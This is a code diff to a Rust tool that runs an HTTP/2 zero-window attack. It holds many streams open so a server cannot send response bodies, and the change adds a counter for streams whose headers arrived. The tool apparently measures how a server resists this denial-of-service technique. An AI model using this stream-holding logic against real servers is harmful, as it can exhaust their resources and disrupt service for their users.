@@ -34,6 +34,9 @@ pub struct Attack {
     pub sent: Arc<AtomicUsize>,
     /// Of those, how many the server ended (stream reset, socket closed, answered).
     pub ended: Arc<AtomicUsize>,
+    /// Streams whose response headers arrived (the server took the request and holds it while
+    /// its body cannot be sent).
+    pub answered: Arc<AtomicUsize>,
 }
 
 impl Drop for Attack {
@@ -50,6 +53,7 @@ impl Attack {
             tasks: vec![],
             sent: Arc::default(),
             ended: Arc::default(),
+            answered: Arc::default(),
         }
     }
 
@@ -61,6 +65,11 @@ impl Attack {
     /// Of those, ended by the server so far.
     pub fn ended(&self) -> usize {
         self.ended.load(Ordering::SeqCst)
+    }
+
+    /// Streams whose response headers arrived so far.
+    pub fn answered(&self) -> usize {
+        self.answered.load(Ordering::SeqCst)
     }
 }
 
@@ -97,6 +106,7 @@ pub async fn zero_window_streams(
     let mut attack = Attack::new();
     for _ in 0..connections {
         let (sent, ended) = (attack.sent.clone(), attack.ended.clone());
+        let answered = attack.answered.clone();
         let (path, authorization) = (path.to_owned(), authorization.clone());
         attack.tasks.push(tokio::spawn(async move {
             loop {
@@ -109,8 +119,7 @@ pub async fn zero_window_streams(
                     streams,
                     &path,
                     authorization.as_deref(),
-                    &sent,
-                    &ended,
+                    [&sent, &answered, &ended],
                 )
                 .await;
                 driver.abort();
@@ -126,8 +135,7 @@ async fn hold_streams(
     n: usize,
     path: &str,
     authorization: Option<&str>,
-    sent: &Arc<AtomicUsize>,
-    ended: &Arc<AtomicUsize>,
+    [sent, answered, ended]: [&Arc<AtomicUsize>; 3],
 ) {
     let (done_tx, mut done_rx) = tokio::sync::mpsc::unbounded_channel::<()>();
     let mut open = 0;
@@ -148,10 +156,12 @@ async fn hold_streams(
             sent.fetch_add(1, Ordering::SeqCst);
             open += 1;
             let (done, ended) = (done_tx.clone(), ended.clone());
+            let answered = answered.clone();
             tokio::spawn(async move {
                 // Headers arrive (they are not flow-controlled); the body never can. The server
                 // ends the stream by resetting it.
                 if let Ok(resp) = resp.await {
+                    answered.fetch_add(1, Ordering::SeqCst);
                     let mut body = resp.into_body();
                     while let Some(Ok(_)) = body.data().await {}
                 }
